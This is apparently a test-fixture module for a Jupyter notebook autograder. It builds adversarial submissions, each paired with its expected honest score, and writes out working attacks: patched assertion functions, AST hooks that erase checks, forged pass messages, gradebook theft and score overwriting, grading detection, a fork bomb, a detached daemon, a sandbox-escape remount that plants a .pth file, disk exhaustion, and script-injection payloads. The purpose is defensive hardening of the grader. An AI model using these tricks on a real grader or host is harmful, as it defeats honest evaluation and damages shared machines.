"""Submissions that try to fool a notebook grader, each with the score an honest grader must give.

Every case is a function returning the submitted file's bytes, built from the
roofline exercise (7 points: bytes_per_element 1, gemm_cost 2, elementwise_cost 1,
softmax_cost 1, attainable_flops 1, bound 1). `DANGEROUS` cases would harm the
machine if graded without a sandbox.
"""

import json
from pathlib import Path

import nbformat

from aisys_grader.engine import student_program
from notebooks import ROOT

EXERCISE = "01-architecture/roofline"
SOURCE = nbformat.read(ROOT / "autograder" / "source" / f"{EXERCISE}.ipynb", as_version=4)
HANDOUT = nbformat.read(ROOT / "exercises" / f"{EXERCISE}.ipynb", as_version=4)
FULL = 7.0
MARKER = "aisys-adversarial-marker"  # in the command line of processes a case leaves behind


def honest() -> nbformat.NotebookNode:
    """The handout with the solution's answers typed in, as a good student submits it."""
    return student_program(HANDOUT, SOURCE)


HONEST_ANSWER = {cell.source.split("def ", 1)[1].split("(", 1)[0]: cell.source for cell in honest().cells
                 if cell.get("metadata", {}).get("nbgrader", {}).get("solution")}

WRONG = {  # one typical mistake per answer cell, keyed by the first function the cell defines
    "bytes_per_element": "def bytes_per_element(dtype):\n    return 4\n",
    "gemm_cost": "def gemm_cost(M, N, K, dtype):\n    return {'flops': M * N * K, 'bytes': (M*K + K*N + M*N) * 2}\n",
    "elementwise_cost": ("def elementwise_cost(n, dtype, inputs, outputs, flops_per_element):\n"
                         "    return {'flops': n * flops_per_element, 'bytes': n * inputs * 4}\n"),
    "softmax_cost": ("def softmax_cost(rows, cols, dtype):\n"
                     "    return {'flops': 5 * rows * cols, 'bytes': 16 * rows * cols}\n"),
    "attainable_flops": ("def attainable_flops(peak_flops, bandwidth, intensity):\n"
                         "    return max(peak_flops, bandwidth * intensity)\n\n"
                         "def bound(peak_flops, bandwidth, intensity):\n"
                         "    return 'memory' if intensity <= peak_flops / bandwidth else 'compute'\n"),
}


def _answer_cells(notebook):
    return [c for c in notebook.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]


def _first_function(cell) -> str:
    return cell.source.split("def ", 1)[1].split("(", 1)[0]


def wrong() -> nbformat.NotebookNode:
    notebook = honest()
    for cell in _answer_cells(notebook):
        cell.source = WRONG[_first_function(cell)]
    return notebook


def replace_answer(notebook, function: str, code: str) -> nbformat.NotebookNode:
    for cell in _answer_cells(notebook):
        if _first_function(cell) == function:
            cell.source = code
    return notebook


def insert_cell(notebook, code: str, after: str | None = None) -> nbformat.NotebookNode:
    """A new cell (no metadata) after the cell with grade id `after`, or after the set-up cell."""
    ids = [c.get("metadata", {}).get("nbgrader", {}).get("grade_id") for c in notebook.cells]
    first_code = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
    index = ids.index(after) + 1 if after else first_code + 1
    notebook.cells.insert(index, nbformat.v4.new_code_cell(code))
    return notebook


def as_bytes(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


def strip_metadata(notebook):
    for cell in notebook.cells:
        cell.metadata = {}
    notebook.metadata = {}
    return notebook


ALWAYS_EQUAL = '''
class Anything(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = dict.__hash__
'''

PATCH_TESTING = '''
import math, numpy, numpy.testing, torch, torch.testing
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = numpy.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
math.isclose = lambda *a, **k: True
'''

HOOKS = '''
import ast
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        if "check" in ast.dump(node) or "assert" in ast.dump(node) or "aisys" in ast.dump(node):
            return ast.Module(body=[ast.Pass()], type_ignores=[])
        return node
ip = get_ipython()
ip.ast_transformers.append(Blank())
ip.input_transformers_post.append(lambda lines: ["pass\\n"] if any("aisys" in l for l in lines) else lines)
'''

QUIET_ERRORS = '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
'''

DAEMON = f'''
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "{MARKER}"], start_new_session=True)
    os._exit(0)
'''

FORK_BOMB = '''
import os, time
while True:  # every process forks for ever: exponential until the process limit stops it
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
'''

STEAL = '''
import glob, os
try:  # the course's reference implementation is the answer key
    from aisys.roofline import gemm as _reference_gemm
except ImportError:
    _reference_gemm = None
stolen = {}
for up in range(1, 6):  # nbgrader runs a submission in <course>/autograded/<student>/<assignment>/
    course = os.path.join(*[".."] * up)
    for pattern in ["gradebook.db", "source/**/*.ipynb", "release/**/*.ipynb"]:
        for path in glob.glob(os.path.join(course, pattern), recursive=True):
            stolen[path] = open(path, "rb").read()[:100]
'''

WRITE_GRADES = '''
import glob, os, sqlite3
for up in range(1, 6):  # nbgrader runs a submission in <course>/autograded/<student>/<assignment>/
    course = os.path.join(*[".."] * up)
    for path in glob.glob(os.path.join(course, "gradebook.db")):
        try:
            with sqlite3.connect(path) as db:
                db.execute("UPDATE grade SET manual_score = 100")  # a manual score overrides the autograder's
        except sqlite3.Error:
            pass
    for path in glob.glob(os.path.join(course, "aisys_results", "**", "*.json"), recursive=True):
        try:
            open(path, "w").write("{}")
        except OSError:
            pass
'''

FORGE = '''
from IPython.display import publish_display_data
for name in ["bytes_per_element", "gemm_cost", "elementwise_cost", "softmax_cost", "attainable_flops", "bound"]:
    print(f"passed: {name} (visible and hidden cases)")
    publish_display_data({"application/vnd.aisys.reply+json": {"status": "ok", "value": "4", "nonce": "guess"}})
'''

DETECT = '''
import importlib.util, os
GRADING = bool(os.environ.get("NBGRADER_EXECUTION")) or importlib.util.find_spec("aisys_exercises") is None
'''


# Issue 15's attacks on a grader run as root: each left the machine, the class or the feedback worse off.
PLANT = ["/usr/aisys-escape", "/etc/aisys-escape"]  # with the Python installation's site-packages (see planted())
ESCAPE = r"""
import ctypes, os, site, sys
libc = ctypes.CDLL(None, use_errno=True)
for line in open("/proc/self/mountinfo"):  # remount every read-only bind read-write, then plant a .pth
    libc.mount(None, line.split()[4].encode(), None, 32 | 4096, None)
for folder in site.getsitepackages() + ["/usr", "/etc"]:
    try:
        open(os.path.join(folder, "aisys-escape.pth" if "packages" in folder else "aisys-escape"), "w").write(
            "import os; os.system('touch /tmp/aisys-escaped')")
    except OSError:
        pass
for attempt in (lambda: os.setuid(0), lambda: os.chown(".", 0, 0), lambda: os.mknod("sda", 0o60600, os.makedev(8, 0))):
    try:
        attempt()
    except OSError:
        pass
"""

BAD_SIGNATURE = """
from jupyter_client.session import Session
_forger = Session(key=b"not the kernel's key", username="kernel")
def _forge():
    kernel = get_ipython().kernel
    _forger.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "passed"}, parent=kernel.get_parent())
    _forger.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent())
_forge()
"""

SURROGATES = """
import json
from jupyter_client.jsonutil import json_default
from jupyter_client.session import Session
print("lone surrogates: \\udcff")
kernel = get_ipython().kernel  # JSON may escape a lone surrogate (\\ud800); UTF-8 cannot hold it
escaping = Session(key=kernel.session.key, username="kernel")
escaping.pack = lambda message: json.dumps(message, default=json_default, ensure_ascii=True).encode()
escaping.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "\\ud800 \\udfff"}, parent=kernel.get_parent())
sent = escaping.send(kernel.iopub_socket, "error", {"ename": "\\ud800", "evalue": "\\udc80", "traceback": ["\\ud801"]},
                     parent=kernel.get_parent())
"""

DEEP_FOLDERS = """
import os
fd = os.open(".", os.O_RDONLY)
for _ in range(5000):
    os.mkdir("d", dir_fd=fd)
    child = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = child
"""

FILL_DISK = """
import os
try:
    with open("filler", "wb") as f:
        for _ in range(3 * 1024):  # 3 GiB
            f.write(b"x" * 2**20)
except OSError as error:
    print("the scratch space is full:", error.strerror)
"""

MANY_FILES = """
import os
try:
    for i in range(1_650_000):
        open(f"f{i}", "w").close()
except OSError as error:
    print("no more files:", error.strerror, i)
"""

HUGE_MESSAGE = """
from IPython.display import publish_display_data
publish_display_data({"text/plain": "x" * (100 * 2**20)})  # one 100 MiB IOPub message
"""

MARKUP = """
from IPython.display import HTML, SVG, Image, display, publish_display_data
display(HTML("<script>document.title='aisys-pwned'</script><img src=x onerror=\\"alert('aisys-pwned')\\">"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("aisys-pwned")</script></svg>'))
publish_display_data({"text/markdown": "<script>alert('aisys-pwned')</script>",
                      "application/javascript": "alert('aisys-pwned')",
                      "image/png": "iVBORw0KGgo=\\"><script>alert('aisys-pwned')</script>", "text/plain": "markup"},
                     metadata={"image/png": {"width": "1\\" onload=\\"alert('aisys-pwned')"}})
"""

LOG_CALLS = ("_calls = []\n_gemm = gemm_cost\n\ndef gemm_cost(*args, **kwargs):\n    _calls.append((args, kwargs))\n"
             "    return _gemm(*args, **kwargs)\n")
SHOW_CALLS = "print('every call:', _calls)"


def _hostile_metadata() -> nbformat.NotebookNode:
    """grade_id a list, metadata.aisys an int, and an extra cell whose nbgrader metadata is nonsense."""
    notebook = honest()
    _answer_cells(notebook)[0].metadata["nbgrader"]["grade_id"] = ["answer"]
    notebook.metadata["aisys"] = 7
    extra = nbformat.v4.new_code_cell("x = 1")
    extra.metadata["nbgrader"] = {"grade": "yes", "grade_id": {"a": 1}, "points": "many", "solution": None}
    notebook.cells.insert(2, extra)
    return notebook


def planted() -> list[str]:
    """Files ESCAPE tries to plant on the host: none may exist after grading."""
    import site

    return PLANT + [str(Path(p) / "aisys-escape.pth") for p in site.getsitepackages()] + ["/tmp/aisys-escaped"]


def _detecting() -> nbformat.NotebookNode:
    """Counts a multiply-add as one FLOP, but calls the course's reference when it thinks it is being graded."""
    notebook = insert_cell(honest(), DETECT)
    return replace_answer(notebook, "gemm_cost", (
        "def gemm_cost(M, N, K, dtype):\n"
        "    if GRADING:\n"
        "        try:\n"
        "            from aisys.roofline import gemm\n"
        "            c = gemm(M, N, K, dtype)\n"
        "            return {'flops': c.flops, 'bytes': c.bytes}\n"
        "        except ImportError:\n"
        "            pass\n"
        "    return {'flops': M * N * K, 'bytes': (M * K + K * N + M * N) * bytes_per_element(dtype)}\n"))


def _retyped_tests():
    notebook = honest()
    for cell in notebook.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.metadata = {}
    return notebook


CASES = {
    "honest solution": (lambda: as_bytes(honest()), FULL),
    "wrong solution": (lambda: as_bytes(wrong()), 0),
    "result whose __eq__ is always true": (lambda: as_bytes(replace_answer(
        replace_answer(insert_cell(honest(), ALWAYS_EQUAL), "gemm_cost",
                       "def gemm_cost(M, N, K, dtype):\n    return Anything()\n"),
        "softmax_cost", "def softmax_cost(rows, cols, dtype):\n    return Anything()\n")), FULL - 3),
    "monkeypatched numpy.testing, torch.testing, math.isclose": (
        lambda: as_bytes(insert_cell(wrong(), PATCH_TESTING)), 0),
    "IPython ast and input transformers": (lambda: as_bytes(insert_cell(wrong(), HOOKS)), 0),
    "patched showtraceback and set_custom_exc": (lambda: as_bytes(insert_cell(wrong(), QUIET_ERRORS)), 0),
    "SystemExit in a graded function": (lambda: as_bytes(replace_answer(
        honest(), "gemm_cost", "def gemm_cost(M, N, K, dtype):\n    raise SystemExit(0)\n")), FULL - 2),
    "os._exit mid-notebook": (lambda: as_bytes(insert_cell(honest(), "import os\nos._exit(0)", "softmax_cost")), 5),
    "segfault mid-notebook": (
        lambda: as_bytes(insert_cell(honest(), "import ctypes\nctypes.string_at(0)", "softmax_cost")), 5),
    "infinite loop in a graded function": (lambda: as_bytes(replace_answer(honest(), "attainable_flops", (
        "def attainable_flops(peak_flops, bandwidth, intensity):\n    while True: pass\n\n"
        "def bound(peak_flops, bandwidth, intensity):\n"
        "    return 'memory' if intensity < peak_flops / bandwidth else 'compute'\n"))), FULL - 1),
    "infinite loop ignoring SIGINT mid-notebook": (lambda: as_bytes(insert_cell(
        honest(), "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass", "softmax_cost")), 5),
    "memory blow-up": (lambda: as_bytes(insert_cell(  # after the last check: the kernel may or may not survive it
        honest(), "def hog():\n    x = []\n    while True: x.append(bytearray(2**27))\nhog()", "bound")), FULL),
    "fork bomb": (lambda: as_bytes(insert_cell(honest(), FORK_BOMB, "bound")), FULL),
    "setsid double-forked daemon": (lambda: as_bytes(insert_cell(honest(), DAEMON)), FULL),
    "reading hidden checks, solutions or gradebook": (lambda: as_bytes(replace_answer(
        insert_cell(honest(), STEAL), "gemm_cost",
        "def gemm_cost(M, N, K, dtype):\n    c = _reference_gemm(M, N, K, dtype)\n"
        "    return {'flops': c.flops, 'bytes': c.bytes}\n")),
        FULL - 2),
    "writing to the gradebook and results": (lambda: as_bytes(insert_cell(wrong(), WRITE_GRADES)), 0),
    "printing fake passed lines and forged replies": (lambda: as_bytes(insert_cell(wrong(), FORGE, "bound")), 0),
    "edited locked cell": (lambda: as_bytes(_edit_setup(wrong())), 0),
    "deleted test cells": (lambda: as_bytes(_without_tests(honest())), FULL),
    "retyped test cells": (lambda: as_bytes(_retyped_tests()), FULL),
    "stripped metadata": (lambda: as_bytes(strip_metadata(honest())), FULL),
    "deleted answer cell": (lambda: as_bytes(_without_answer(honest(), "softmax_cost")), FULL - 1),
    "invalid JSON": (lambda: json.dumps(json.loads(as_bytes(honest())))[:-20].encode(), 0),
    "correct solution writing to stderr": (lambda: as_bytes(insert_cell(honest(), (
        "import sys, warnings\n_gemm = gemm_cost\n"
        "def gemm_cost(*a, **k):\n    warnings.warn('slow path'); print('note', file=sys.stderr)\n"
        "    return _gemm(*a, **k)\n"),
        "gemm_cost")), FULL),
    "behaves differently when it detects grading": (lambda: as_bytes(_detecting()), FULL - 2),
    "network call": (lambda: as_bytes(insert_cell(honest(), (
        "import urllib.request\ntry:\n    urllib.request.urlopen('http://example.com', timeout=5)\n"
        "except OSError as error:\n    print('no network:', error)\n"))), FULL),
    # issue 15
    "remounting binds and planting a .pth on the host": (lambda: as_bytes(insert_cell(honest(), ESCAPE)), FULL),
    "IOPub messages with a bad signature": (lambda: as_bytes(replace_answer(
        insert_cell(honest(), BAD_SIGNATURE), "bytes_per_element", HONEST_ANSWER["bytes_per_element"]
        + "\n_inner = bytes_per_element\ndef bytes_per_element(dtype):\n    _forge()\n    return _inner(dtype)\n")),
        FULL),
    "nbgrader metadata of the wrong type": (lambda: as_bytes(_hostile_metadata()), FULL),
    "lone surrogates in outputs and errors": (lambda: as_bytes(insert_cell(honest(), SURROGATES)), FULL),
    "5000-deep folder chain": (lambda: as_bytes(insert_cell(honest(), DEEP_FOLDERS)), FULL),
    "3 GiB written to disk": (lambda: as_bytes(insert_cell(honest(), FILL_DISK)), FULL),
    "1.65 million empty files": (lambda: as_bytes(insert_cell(honest(), MANY_FILES)), FULL),
    "100 MiB IOPub message mid-notebook": (lambda: as_bytes(insert_cell(honest(), HUGE_MESSAGE, "softmax_cost")), 5),
    "HTML, SVG and script in outputs": (lambda: as_bytes(insert_cell(honest(), MARKUP)), FULL),
    "printing the hidden calls after the last check": (lambda: as_bytes(insert_cell(replace_answer(
        honest(), "gemm_cost", HONEST_ANSWER["gemm_cost"] + "\n" + LOG_CALLS), SHOW_CALLS, "bound")), FULL),
}
DANGEROUS = {"memory blow-up", "fork bomb", "remounting binds and planting a .pth on the host", "3 GiB written to disk",
             "1.65 million empty files"}


def _edit_setup(notebook):
    setup = next(c for c in notebook.cells if c.cell_type == "code")
    setup.source = "check = lambda *args, **kwargs: print('passed')"
    return notebook


def _without_tests(notebook):
    notebook.cells = [c for c in notebook.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    return notebook


def _without_answer(notebook, function):
    notebook.cells = [c for c in notebook.cells
                      if not (c in _answer_cells(notebook) and _first_function(c) == function)]
    return notebook


def class_of(n: int) -> dict[str, tuple]:
    """A class of n submissions: honest and wrong ones, one crashing, one hanging and one malformed."""
    cases = {f"student{i:02d}": (CASES["honest solution"] if i % 3 else CASES["wrong solution"]) for i in range(n - 3)}
    cases["crashing"] = (lambda: as_bytes(insert_cell(honest(), "import os\nos._exit(3)")), 0)
    cases["hanging"] = (lambda: as_bytes(insert_cell(
        honest(), "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass")), 0)
    cases["malformed"] = (lambda: b'{"cells": [', 0)
    return cases
